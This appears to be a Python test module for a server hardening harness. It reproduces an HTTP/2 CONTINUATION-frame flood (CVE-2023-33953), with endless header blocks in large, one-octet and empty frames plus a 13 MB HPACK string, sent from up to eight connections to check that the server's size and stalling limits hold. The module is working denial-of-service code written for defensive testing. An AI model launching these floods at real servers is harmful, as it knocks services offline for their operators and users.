"""An endless header block: in large and in tiny CONTINUATION frames, and as one string (CVE-2023-33953)."""

import contextlib
import time

from beside import under
from frames import CONTINUATION, HEADERS, connect, frame, number

MOST = 512 << 20  # octets that an attacker sends at most


def block(port, seconds, begin, chunk):
    """Begins a header block and sends the chunk repeatedly, on a new connection when the old one ends."""
    end, sent = time.monotonic() + seconds, 0
    while time.monotonic() < end and sent < MOST:
        with contextlib.suppress(OSError):
            connection = connect(port)
            connection.sendall(frame(HEADERS, 0, 1, begin))
            while time.monotonic() < end and sent < MOST:
                connection.sendall(chunk)
                sent += len(chunk)


def continuation(port, seconds):
    block(port, seconds, b"\x00\x01a" + number(1 << 30, 7), frame(CONTINUATION, 0, 1, b"x" * 16384) * 16)


def tiny_continuation(port, seconds):
    block(port, seconds, b"\x00\x01a" + number(1 << 30, 7), frame(CONTINUATION, 0, 1, b"x") * 20000)


def string(port, seconds):
    """Complete within 13 MB, so that its decoding ends."""
    block(port, seconds, b"\x00\x01a" + number(13_000_000, 7), frame(CONTINUATION, 0, 1, b"x" * 16000) * 8)


def empty_continuation(port, seconds):
    block(port, seconds, b"", frame(CONTINUATION, 0, 1) * 20000)


def run():
    for tls in ("", "server"):
        each(tls)


def each(tls):
    limits = ["max-unasked-size", "stalling"]
    under("one header in CONTINUATION frames", continuation, limits=limits, tls=tls)
    under("one header in CONTINUATION frames, from eight", continuation, limits=limits, tls=tls, attackers=8)
    under("CONTINUATION frames of one octet", tiny_continuation, limits=limits, tls=tls)
    under("CONTINUATION frames without content", empty_continuation, limits=limits, tls=tls)
    under("an HPACK string of 13 MB", string, limits=limits, tls=tls, attackers=3)
